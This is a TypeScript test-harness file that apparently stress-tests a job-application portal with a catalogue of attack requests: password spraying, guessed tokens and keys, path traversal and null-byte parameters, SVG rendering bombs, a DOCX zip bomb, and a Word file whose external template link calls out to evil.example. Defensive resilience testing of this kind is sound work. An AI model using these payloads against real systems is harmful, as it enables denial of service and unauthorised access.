import { randomBytes } from 'node:crypto'
import type { Random } from '../../../scripts/harness/random.ts'
import { topicNames } from '../../src/base/live/topic.ts'
import { LIVE_PATH, portalAddresses } from '../../src/portal/addresses.ts'
import { TRAP } from '../../src/public/public-form/sent-form.ts'
import type { OpenJob } from '../application-forms.ts'
import { PDF } from '../documents.ts'
import { sendPassword } from '../portal/factors.ts'
import type { Visitor } from '../portal/visitor.ts'
import { docx, zip } from '../zip.ts'
import { formWith, type Sender, type SentFile } from './sender.ts'

// What somebody does who wants an installation to stop, one request at a time: every kind of attack that was once possible.

/** What attackers know of an installation. */
export interface Target {
  /** Whose passwords they try. */
  readonly emails: readonly string[]
  /** Jobs whose forms they fill in. */
  readonly jobs: readonly OpenJob[]
  /** Objects of a company that nobody else has to do with. */
  readonly foreignIds: readonly string[]
  /** The seal of a form that was opened so many seconds ago: attackers open forms, too. Such as will be opened is always hasty. */
  readonly sealOf: (job: OpenJob, secondsAgo: number) => string
  /** Mailboxes of strangers whom they make an installation write to. */
  readonly strangers: (random: Random) => string
}

/** One network of them. */
export interface Attacker {
  /** Without a session. */
  readonly sender: Sender
  readonly visitor: Visitor
  /** Signed in to a company of their own. */
  readonly member: Visitor
}

type Attack = (target: Target, attacker: Attacker, random: Random) => Promise<number>

const KIB = 1024
const HOUR = 3_600
const named = (name: string, bytes: Buffer): SentFile => ({ name, bytes })
const svg = (inside: string, more = '') =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="6000" height="6000" ${more}>${inside}</svg>`)

/** Pictures that take long to draw, or much memory, or that are none. */
const pictures: Readonly<Record<string, (random: Random) => Buffer>> = {
  turbulence: (random) =>
    svg(
      `<filter id="f"><feTurbulence numOctaves="${random.whole(50, 200)}" baseFrequency="0.9"/></filter>
      <rect width="6000" height="6000" filter="url(#f)"/>`,
    ),
  nested: (random) => {
    const levels = Array.from({ length: 12 }, (_, i) => `<g id="g${i + 1}">${`<use href="#g${i}"/>`.repeat(10)}</g>`)
    return svg(`<rect id="g0" width="${random.whole(1, 9)}" height="1"/>${levels.join('')}`)
  },
  blurred: (random) =>
    svg(`<filter id="f"><feGaussianBlur stdDeviation="${random.whole(500, 5_000)}"/></filter>
      <circle r="3000" filter="url(#f)"/>`),
  broken: (random) => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomBytes(random.whole(10, 50_000))]),
}

/** Word files that cost time, or that reach for other machines. */
const documents: Readonly<Record<string, (random: Random) => Buffer>> = {
  'many entries': (random) =>
    zip(
      docx(
        Array.from({ length: random.whole(4_000, 4_990) }, (_, i) => ({ name: `word/media/${i}.bin`, bytes: `${i}` })),
      ),
    ),
  bomb: (random) =>
    zip(docx([{ name: 'word/media/image.bmp', bytes: Buffer.alloc(random.whole(20, 60) * KIB * KIB) }])),
  template: () =>
    zip(
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r"
            Target='http://evil.example/t.dotm' TargetMode='External'
            Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/></Relationships>`,
        },
      ]),
    ),
  torn: (random) => zip(docx()).subarray(0, random.whole(20, 200)),
}

const cv = (random: Random, most: number) =>
  named('cv.pdf', Buffer.concat([PDF, Buffer.alloc(random.whole(1, most) * KIB, ' '), PDF]))
const person = (target: Target, random: Random) => ({
  firstName: 'Kari',
  lastName: 'Lie',
  email: target.strangers(random),
})

/** A word for a parameter of an address: an id of somebody else, or nonsense. */
const wordFor = (target: Target, random: Random) =>
  random.pick([...target.foreignIds, ...target.foreignIds, 'x', '%00', '../..', '01890000-0000-7000-8000-000000000000'])

/** @param largest KiB of the largest file that is sent */
export function attacksWith(largest: number): Readonly<Record<string, Attack>> {
  return {
    'wrong password': async (target, { visitor }, random) =>
      (await sendPassword(visitor, { email: random.pick(target.emails) }, `wrong ${random.whole(1, 1e9)}`)).status,
    'one password for everybody': async (_target, { visitor }, random) =>
      (await sendPassword(visitor, { email: `user${random.whole(1, 1e6)}@example.com` }, 'summer sunshine 26')).status,
    'challenge of a passkey': async (_target, { visitor }) => {
      visitor.cookies.clear()
      return (await visitor.post('/portal/sign-in/passkey/options')).status
    },
    'guessed link': async (_target, { sender, visitor }, random) => {
      const guess = randomBytes(32).toString('base64url')
      if (random.chance(0.5)) return (await visitor.get(`/portal/welcome/${guess}`)).status
      return (await sender.get(`/m/${guess}`)).status
    },
    'guessed key': async (_target, { sender }) =>
      (await sender.get('/api/v1/positions', { authorization: `Bearer kand_${randomBytes(24).toString('base64url')}` }))
        .status,
    'refused form with a file': async (target, { sender }, random) => {
      const job = random.pick(target.jobs)
      const texts = { seal: target.sealOf(job, 10), ...person(target, random), email: 'kari@' }
      return (await sender.post(job.path, texts, [cv(random, largest)])).status
    },
    'form without a seal': async (target, { sender }, random) =>
      (await sender.post(random.pick(target.jobs).path, person(target, random), [cv(random, largest)])).status,
    'held form': async (target, { sender }, random) => {
      const job = random.pick(target.jobs)
      const texts = { seal: target.sealOf(job, -HOUR), ...person(target, random), [TRAP]: 'x' }
      return (await sender.post(job.path, texts)).status
    },
    'hostile document': async (target, { sender }, random) => {
      const job = random.pick(target.jobs)
      const make = random.pick(Object.values(documents))
      const texts = { seal: target.sealOf(job, -HOUR), ...person(target, random), [TRAP]: 'x' }
      return (await sender.post(job.path, texts, [named('cv.docx', make(random))])).status
    },
    'hostile picture': async (_target, { member }, random) => {
      const bytes = random.pick(Object.values(pictures))(random)
      const { type, body } = formWith({ name: 'Angriper AS', language: 'NO' }, [named('logo.svg', bytes)], 'logo')
      const reply = await member.post('/portal/settings/company', {}, { headers: { 'content-type': type }, body })
      return reply.status
    },
    'random verb': async (target, { member }, random) => {
      const address = random.pick(portalAddresses.filter((known) => !/sign-out|account/.test(known)))
      const path = address.replaceAll(/:\w+/g, () => wordFor(target, random))
      const fields = random.some(['name', 'email', 'stage', 'ids', 'title', 'confirmed', 'page', 'reason'], 4)
      const given = Object.fromEntries(fields.map((field) => [field, wordFor(target, random)]))
      return (random.chance(0.7) ? await member.post(path, given) : await member.get(path)).status
    },
    'live stream': async (_target, { member, sender }, random) => {
      const cookie = [...member.cookies].map(([name, value]) => `${name}=${value}`).join('; ')
      return sender.open(`${LIVE_PATH}?topic=${random.pick(topicNames)}`, { cookie, accept: 'text/event-stream' })
    },
    'costly question': async (target, { sender }, random) => {
      const words = Array.from({ length: random.whole(1, 60) }, () => random.pick(['a', 'er', 'C#', 'ø', '%', 'og']))
      return (await sender.get(`/c/${random.pick(target.jobs).pageId}?q=${encodeURIComponent(words.join(' '))}`)).status
    },
  }
}
